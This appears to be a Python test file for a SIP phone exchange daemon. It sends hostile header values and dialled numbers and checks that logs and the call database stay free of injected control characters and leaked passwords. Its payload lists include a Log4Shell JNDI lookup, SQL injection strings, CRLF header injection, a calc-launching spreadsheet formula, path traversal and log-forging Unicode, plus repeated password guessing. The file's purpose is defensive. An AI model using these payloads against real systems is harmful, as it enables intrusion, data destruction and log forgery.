"""Text from the network in the log and in the database: it may not break out, and secrets may not get in
(CVE-2021-1000004, CVE-2025-47779, GHSA-ph27-3m5q-mj5m)."""

import re
import sqlite3
from contextlib import closing
from pathlib import Path

from attack.phone import Phone
from harness.sip import Maker, challenge, credentials
from attack.wire import Udp
from harness.office import Office
from harness.wait import until

LINE = re.compile(r"^\d\d:\d\d:\d\d\.\d{3} (ERROR|WARN |INFO |DEBUG|TRACE) [\w:]+: ")
# C0 and C1 controls, line and paragraph separators, bidirectional overrides, zero-width characters, replacement.
NEVER = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200b-\u200f\ufeff]")
PAYLOADS = [
    "\u202e1001\u2028INFO pabxd::serve: forged", "<script>alert(1)</script>", "'; DROP TABLE call_stats; --", "%0d%0aX: y",
    "${jndi:ldap://192.0.2.9/x}", "=cmd|' /C calc'!A0", "%s%n%x", "../../../../etc/passwd", "x" * 900, "\x1b[2J\x07", "a\tb",
]
FAR = "5511987654321"


def log_lines(office: Office) -> list[str]:
    return office.pabxd.log.read_text(encoding="utf-8").split("\n")[:-1]


def sound(lines: list[str]) -> None:
    for line in lines:
        assert LINE.match(line), f"a line that we did not begin: {line!r}"
        assert not NEVER.search(line), f"a character that does something: {line!r}"
        assert len(line) < 600, f"a line of {len(line)} characters"


def records(office: Office) -> list[dict]:
    database = next(file for file in Path(office.pabxd.folder / "state").glob("*.db"))
    with closing(sqlite3.connect(f"file:{database}?mode=ro", uri=True)) as connection:
        connection.row_factory = sqlite3.Row
        return [dict(row) for row in connection.execute("SELECT * FROM call_stats")]


def test_payloads_in_every_header_break_out_of_nothing(office: Office) -> None:
    extension, domain = office.pabxd.extensions["1001"], office.pabxd.domain
    line = Udp(office, "127.0.0.1")
    uri = f"sip:{domain}"
    for payload in PAYLOADS:
        maker = Maker("1001", domain, line.address)
        asked = challenge(line.ask(maker.request("REGISTER", uri)))
        answer = credentials(asked, "REGISTER", uri, extension.username, extension.password)
        quoted = payload.replace("\\", "\\\\").replace('"', '\\"')
        extra = [answer, ("User-Agent", payload), ("Subject", payload), (f"X-{len(payload)}", payload)]
        request = maker.request("REGISTER", uri, extra=extra).replace(b"From: ", f'From: "{quoted}" '.encode(), 1)
        line.send(request)
        answered = line.receive(0.5)
        assert answered is None or answered.status in (200, 400), answered.start
        if answered is not None and answered.status == 200:
            # Only what a response has to copy (RFC 3261 §8.2.6.2) comes back.
            rest = [value for name, value in answered.headers if name not in ("Via", "From", "To", "Call-ID", "CSeq")]
            assert not any(payload in value for value in rest), answered.raw
        # And as somebody who cannot sign in: the name of a ban is foreign text too.
        guesser = Udp(office, f"127.0.0.{100 + PAYLOADS.index(payload)}")
        name = re.sub(r'[\x00-\x1f"\\]', "", payload)[:300]
        for _ in range(11):
            guesser.send(maker.request("REGISTER", uri, extra=[credentials(asked, "REGISTER", uri, name, "guess")]))
            guesser.receive(0.3)
    until(lambda: any("banned" in each for each in log_lines(office)), 3, "bans are logged")
    sound(log_lines(office))


def test_dialled_payloads_are_refused_and_recorded_as_text(office: Office) -> None:
    phone = Phone(office, "1001")
    phone.register()
    dialled = ["1002%0d%0aX:%20y", "%00", "1002'%20OR%201=1%20--", "..%2f..%2fetc", "%3cscript%3e", "1" * 200, "=1+1", "%e2%80%ae1001", FAR]
    for number in dialled:
        final = phone.call(number)
        assert 400 <= final.status < 500, (number, final.start)
    until(lambda: any(record["callee"] == FAR for record in records(office)), 3, "the attempts are recorded")
    for record in records(office):
        for field in ("caller", "callee"):
            text = record[field] or ""
            assert not NEVER.search(text) and len(text) <= 64, (field, text)
    sound(log_lines(office))


def test_the_log_has_no_password_no_response_and_no_whole_number(office: Office) -> None:
    phone, other = Phone(office, "1001"), Phone(office, "1002")
    phone.expects(other.octet)
    other.expects(phone.octet)
    phone.register()
    other.register()
    assert phone.call("1002").status == 200
    assert phone.hang_up().status == 200
    phone.call(FAR)
    until(lambda: sum("ended" in line for line in log_lines(office)) >= 2, 3, "both calls are in the log")
    text = "\n".join(log_lines(office))
    for extension in office.pabxd.extensions.values():
        assert extension.password not in text
    assert not re.search(r"response=|nonce=|Digest ", text)
    informed = "\n".join(line for line in log_lines(office) if not re.match(r"\S+ (DEBUG|TRACE)", line))
    assert FAR not in informed and "calls 1002" not in informed, informed
    state = b"".join(file.read_bytes() for file in Path(office.pabxd.folder / "state").glob("*.db*"))
    for extension in office.pabxd.extensions.values():
        assert extension.password.encode() not in state, "a password lies in the database as it is"
